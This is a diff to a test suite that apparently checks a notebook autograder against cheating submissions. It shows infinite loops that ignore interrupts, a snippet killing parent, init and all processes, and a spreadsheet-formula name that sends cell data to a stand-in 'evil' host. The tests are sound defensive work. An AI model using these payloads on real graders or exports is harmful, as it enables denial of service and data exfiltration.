@@ -34,6 +34,7 @@ TIMEOUT = 10
 MARK = "attnlab-attack-marker"  # in the command line of every process an attack leaves behind
 SECRET = "s3cr3t-of-the-grader"  # in the grader's environment; must never reach a kernel
 LESSON = "01_attention_as_explanation"
+BUDGET = 45  # seconds per notebook in this class, so the replaying attacker is cut off quickly
 
 
 def _fingerprint(*folders: Path) -> dict[str, str]:
@@ -264,7 +265,7 @@ Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
         cell = _cell(raw, grade_id)
         cell.pop("outputs", None)
         cell.pop("execution_count", None)
-    c.add("b_raw_cells", "quiz", raw, 7, {"cells_restored"})
+    c.add("b_raw_cells", "quiz", raw, 8, {"cells_restored"})
     c.add("b_kill", "quiz", c.inject(c.quiz(5), """
 import os, signal
 for pid in (os.getppid(), 1, -1):
@@ -308,10 +309,12 @@ for i in range(3000):
     huge.cells.append(nbformat.v4.new_code_cell("x = 1", outputs=[nbformat.v4.new_output(
         "stream", name="stdout", text="y" * (c.course.max_notebook_bytes + 1000))]))
     c.add("r_huge_file", "quiz", huge, 0, {"too_large"})
-    c.add("r_replay", "quiz", c.inject(c.inject(c.inject(c.quiz(5), "import time\ntime.sleep(8)", after="answer_2"),
-                                                "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
-                                                "while True:\n    pass", after="answer_4"),
-                                       "while True:\n    pass", after="answer_6"), 0, {"time_budget"})
+    hang = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+    replay = c.quiz(5)
+    for after, source in [("answer_1", "import time\ntime.sleep(8)"), ("answer_2", "import time\ntime.sleep(8)"),
+                          ("answer_4", hang), ("answer_6", hang), ("answer_8", hang)]:
+        c.inject(replay, source, after=after)
+    c.add("r_replay", "quiz", replay, 5, {"time_budget"})
     # --- 6. ids and paths ---------------------------------------------------------------------------
     c.add("*", "quiz", c.quiz(0), 0, {"bad_id"})
     c.add("z?_victim", "quiz", c.quiz(0), 0, {"bad_id"})
@@ -342,7 +345,7 @@ def attacked(tmp_path_factory, course):
     before = _fingerprint(*watched)
     os.environ["ATTNLAB_TEST_SECRET"] = SECRET
     # A short budget per notebook, so the replaying attacker is cut off quickly.
-    short = replace(course, budget=45)
+    short = replace(course, budget=BUDGET)
     try:
         report = grade(short, klass.folder, klass.out, timeout=TIMEOUT)
     finally:
@@ -383,6 +386,13 @@ def test_honest_students_get_their_grades_and_attackers_gain_nothing(attacked):
         else:  # attackers: at most the score of their honest answers, and what they did is flagged
             assert item.score <= score, details
         assert statuses <= set(item.submission.status), details
+
+
+def test_the_time_budget_bounds_a_notebook_that_hangs_again_and_again(attacked):
+    _, report, _, _ = attacked
+    replay = _item(report, "r_replay")
+    # Without a budget: 2 x 8 s of slow cells, then 3 hanging cells, each 10 s + 4 s and a replay of 16 s.
+    assert replay.seconds < BUDGET + 20
 
 
 def test_nothing_outside_out_changes(attacked):
